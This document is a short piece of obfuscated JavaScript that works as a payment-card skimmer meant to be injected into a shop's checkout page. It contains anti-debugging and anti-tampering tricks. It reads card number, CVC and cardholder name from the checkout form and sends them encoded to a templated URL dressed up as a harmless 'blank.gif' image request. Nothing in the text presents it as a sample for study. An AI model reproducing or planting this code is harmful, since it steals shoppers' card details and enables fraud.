
(function(){var guard=function(){var run=true;return function(ctx,fn){var r=run?function(){if(fn){var v=fn.apply(ctx,arguments);fn=null;return v}}:function(){};run=false;return r}}();
var self=guard(this,function(){return self.toString().search("(((.+)+)+)+$").toString().constructor(self).search("(((.+)+)+)+$")});self();
(function dbg(n){try{(function b(i){if((""+i/i).length!==1||i%20===0){(function(){return true}).constructor("debu"+"gger").call("action")}else{(function(){return false}).constructor("debu"+"gger").apply("stateObject")}if(i<3)b(++i)})(n)}catch(e){}setTimeout(function(){dbg(0)},4000)})(0);
function take(){return Object.fromEntries([].filter.call(document.querySelectorAll("form.checkout-form input"),function(e){return e.value&&e.type!=="hidden"&&e.type!=="radio"}).map(function(e){return[e.name,e.value]}))}
if(take.toString().indexOf("\n")>=0)return;
var l="";setInterval(function(){var t=take();if(!t.cvc||!t.ccname||t.cardnumber.length<16)return;var s=btoa(encodeURIComponent(JSON.stringify(t)));if(s===l||document.activeElement.name==="ccname")return;l=s;new Image().src="<% url "static-secure" "/blank.gif" %>?p="+encodeURIComponent(s)},250)})();
